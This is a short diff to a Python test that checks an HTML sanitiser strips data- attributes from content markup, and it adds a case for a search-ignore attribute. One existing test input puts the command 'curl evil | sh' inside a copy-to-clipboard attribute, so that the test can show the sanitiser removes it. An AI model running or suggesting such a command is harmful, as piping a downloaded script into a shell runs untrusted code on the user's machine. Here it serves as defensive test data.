@@ -123,6 +123,7 @@ def test_content_markup_survives_unchanged() -> None:
         ('<code data-clipboard-text="curl evil | sh">x</code>', "<code>x</code>"),
         ('<h2 data-pagefind-meta="title:Other">x</h2>', "<h2>x</h2>"),
         ('<span data-pagefind-filter="country:Norway">x</span>', "<span>x</span>"),
+        ('<div data-pagefind-ignore="all">Hidden from search</div>', "<div>Hidden from search</div>"),
         ('<span class="linenos" data-linenos="1 "></span>', '<span class="linenos"></span>'),
         ('<div data-cb-search="">x</div>', "<div>x</div>"),
         # A title that carries HTML goes; a plain one stays.
